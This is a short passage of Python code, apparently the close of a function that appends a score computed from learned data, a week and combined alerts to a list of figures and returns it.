    figures.append(score(learned, week, alerts + mac_alerts(scored), scored))
    return figures
